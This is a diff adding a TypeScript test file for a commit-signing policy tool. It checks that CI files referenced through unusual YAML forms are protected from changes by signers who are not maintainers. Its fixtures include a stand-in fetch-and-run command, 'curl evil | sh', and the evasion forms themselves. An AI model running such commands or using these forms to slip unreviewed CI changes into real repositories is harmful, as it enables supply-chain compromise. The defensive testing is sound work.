@@ -1,0 +1,75 @@
+// Red-team round 12: the files a CI configuration runs were found by reading it line by line, so a
+// reference written in another YAML form than `uses: ./x` / `include: local: x` on its own line was
+// not seen and the file it names was not protected: a flow-style step `- { uses: ./tools/audit }`,
+// a quoted key `"uses": ./tools/audit`, an alias of an anchored path, a folded block scalar, and a
+// GitLab `include: { local: /ci/jobs.yml }` all run the file as GitHub's and GitLab's YAML parsers
+// read them, yet a signer who is no maintainer changed it and protected-paths-changed-by-maintainers
+// passed.
+import { makeRepo, cleanupTemp, type TestRepo } from '../helpers/repo.js';
+import { commitAsPerson, configureSshSigning, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
+import { runMain } from '../helpers/cli.js';
+
+afterAll(cleanupTemp);
+
+const POLICY =
+  'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n';
+
+function team(files: Record<string, string>): { r: TestRepo; alice: SshTestKey; bob: SshTestKey } {
+  const r = makeRepo();
+  const alice = makeSshKey(r.home, 'ed25519', 'alice');
+  const bob = makeSshKey(r.home, 'ed25519', 'bob');
+  configureSshSigning(r, alice);
+  commitAsPerson(r, alice, 'alice@example.com', 'policy and CI', {
+    '.gitguard/policy.yml': POLICY,
+    '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n`,
+    ...files,
+  });
+  return { r, alice, bob };
+}
+
+const head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
+const ACTION = 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n';
+const EVIL = 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n';
+
+const github = (steps: string, workflow = head + steps): [Record<string, string>, Record<string, string>] => [
+  { '.github/workflows/ci.yml': workflow, 'tools/audit/action.yml': ACTION },
+  { 'tools/audit/action.yml': EVIL },
+];
+const gitlab = (ci: string): [Record<string, string>, Record<string, string>] => [
+  { '.gitlab-ci.yml': ci, 'ci/jobs.yml': 'a:\n  script: make\n' },
+  { 'ci/jobs.yml': 'a:\n  script: curl evil | sh\n' },
+];
+
+describe.each([
+  ['a flow-style step', github('      - { uses: ./tools/audit }\n')],
+  ['a quoted key', github('      - "uses": ./tools/audit\n')],
+  [
+    'an alias of an anchored path',
+    github('      - env: { P: &p ./tools/audit }\n        run: echo\n      - uses: *p\n'),
+  ],
+  ['a folded block scalar', github('      - uses: >-\n          ./tools/audit\n')],
+  [
+    'a workflow all in flow style',
+    github('', '{ on: push, jobs: { a: { runs-on: ubuntu-latest, steps: [{ uses: ./tools/audit }] } } }\n'),
+  ],
+  ['a GitLab flow-map include', gitlab("include: { local: '/ci/jobs.yml' }\n")],
+  ['a GitLab quoted include key', gitlab('"include":\n  - local: /ci/jobs.yml\n')],
+  ['a GitLab include list in flow style', gitlab("include: [{ local: '/ci/jobs.yml' }]\n")],
+])('%s', (_name, [before, change]) => {
+  test('the file it runs, changed by a signer who is no maintainer: protected-paths-changed-by-maintainers fails', async () => {
+    const { r, bob } = team(before);
+    commitAsPerson(r, bob, 'bob@example.com', 'tweak', change);
+    const res = await runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], {
+      env: r.env,
+    });
+    expect([res.code, res.stdout]).toEqual([1, expect.stringContaining(Object.keys(change)[0]!.split('/')[0]!)]);
+  });
+  test("twin: the maintainer's change passes", async () => {
+    const { r, alice } = team(before);
+    commitAsPerson(r, alice, 'alice@example.com', 'tweak', change);
+    const res = await runMain(['audit', '-C', r.dir, '-r', 'protected-paths-changed-by-maintainers', '--no-ledger'], {
+      env: r.env,
+    });
+    expect(res.code).toBe(0);
+  });
+});
